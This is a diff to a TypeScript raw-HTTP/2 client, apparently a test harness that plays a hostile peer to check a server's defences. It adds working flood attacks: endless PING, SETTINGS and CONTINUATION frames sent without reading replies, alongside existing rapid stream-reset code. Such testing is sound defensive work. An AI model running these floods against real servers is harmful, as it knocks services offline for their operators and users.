@@ -1,4 +1,5 @@
 // HTTP/2 as a program speaks it that means harm: frames are written as they are, and nothing of a stream is kept.
+import { setImmediate } from 'node:timers/promises';
 import { connect } from 'node:tls';
 
 /** With what a member connects. */
@@ -19,6 +20,8 @@ export interface RawCall {
 export interface RawHttp2 {
   /** Begins so many calls, of which nothing else is sent; `reset` ends each at once. */
   begin(call: RawCall, count: number, reset?: boolean): void;
+  /** Sends frames without end that each ask for work, and reads no answers, until the server closes the connection. Resolves to how many. */
+  flood(kind: FrameFlood): Promise<number>;
   /** How many calls the server ended. */
   readonly endedCount: number;
   /** Settles when the connection is closed. */
@@ -26,7 +29,11 @@ export interface RawHttp2 {
   close(): void;
 }
 
-const frameType = { headers: 1, resetStream: 3, settings: 4, ping: 6 };
+/** Pings and settings, which are to be acknowledged; or the headers of one call, which never end. */
+export type FrameFlood = 'ping' | 'settings' | 'continuation';
+
+const frameType = { headers: 1, resetStream: 3, settings: 4, ping: 6, continuation: 9 };
+const framesPerWrite = 1_000;
 const flag = { acknowledge: 1, endStream: 1, endHeaders: 4 };
 const cancel = Buffer.from('00000008', 'hex');
 
@@ -64,6 +71,13 @@ function headerBlock({ path, headers = {} }: RawCall): Buffer {
     Buffer.from([0x83, 0x87]),
     ...Object.entries(all).map(([name, value]) => literal(name, value)),
   ]);
+}
+
+function floodFrame(kind: FrameFlood, stream: number): Buffer {
+  if (kind === 'ping') return frame(frameType.ping, 0, 0, Buffer.alloc(8));
+  if (kind === 'settings') return frame(frameType.settings, 0, 0, Buffer.from('000300000064', 'hex'));
+  const header = Buffer.concat([Buffer.from([0]), text('x'), text('y'.repeat(1_000))]);
+  return frame(frameType.continuation, 0, stream, header);
 }
 
 /** Connects. Rejects when there is no connection of TLS. */
@@ -111,6 +125,25 @@ export async function connectFrames(
         nextStream += 2;
       }
       socket.write(Buffer.concat(frames));
+    },
+    async flood(kind) {
+      socket.pause();
+      let sent = 0;
+      let isClosed = false;
+      // A socket that nobody reads does not say that the other end has gone, but what is written to it does.
+      socket.once('error', () => socket.destroy());
+      const over = ended.promise.then(() => {
+        isClosed = true;
+      });
+      if (kind === 'continuation') socket.write(frame(frameType.headers, 0, nextStream, Buffer.from([0x83, 0x87])));
+      const frames = Buffer.concat(Array<Buffer>(framesPerWrite).fill(floodFrame(kind, nextStream)));
+      while (!isClosed) {
+        sent += framesPerWrite;
+        await Promise.race([over, new Promise((resolve) => socket.write(frames, resolve))]);
+        // A write to a socket that is destroyed fails before it is told that it was.
+        await setImmediate();
+      }
+      return sent;
     },
     get endedCount() {
       return endedCount;
